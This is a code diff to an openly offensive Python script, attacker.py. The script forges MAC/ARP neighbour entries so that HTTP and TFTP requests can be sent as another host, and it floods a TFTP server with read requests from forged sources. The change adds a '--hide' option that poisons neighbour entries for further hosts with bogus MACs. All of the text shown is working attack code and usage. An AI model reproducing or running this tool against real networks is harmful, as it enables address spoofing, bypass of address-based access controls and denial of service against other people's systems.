@@ -7,7 +7,7 @@ is at the victim's MAC, then puts its entry back the same way 50 ms later; the s
 sent to the victim's MAC first, reaches the attacker on TCP's (or TFTP's) retransmission.
 
     attacker.py http IFACE OWN_MAC FORGED_MAC SERVER PORT METHOD PATH [-H 'Name: value']... [--body TEXT] [--hide IP=MAC]...
-    attacker.py tftp IFACE OWN_MAC FORGED_MAC SERVER FILE
+    attacker.py tftp IFACE OWN_MAC FORGED_MAC SERVER FILE [--hide IP=MAC]...
     attacker.py flip IFACE MAC OWN_IP    (the entry only: no request)
     attacker.py rrq-flood SERVER FIRST_SOURCE SOURCES RATE SECONDS FILE...
         TFTP read requests from forged on-link sources (FIRST_SOURCE and the SOURCES-1
@@ -138,10 +138,13 @@ def http(argv):
 
 def tftp(argv):
     iface, own_mac, forged_mac, server, name = argv[:5]
+    hide = [pair.split("=") for flag, pair in zip(argv[5::2], argv[6::2]) if flag == "--hide"]
     family = socket.AF_INET6 if ":" in server else socket.AF_INET
     own_ip = own_address(iface, family)
     sock = socket.socket(family, socket.SOCK_DGRAM)
     sock.settimeout(6)
+    for hidden_ip, bogus_mac in hide:
+        flip(iface, own_mac, bogus_mac, hidden_ip)
     flip(iface, own_mac, forged_mac, own_ip)
     time.sleep(0.05)
     sock.sendto(b"\0\1" + name.encode() + b"\0octet\0", (server, 69))
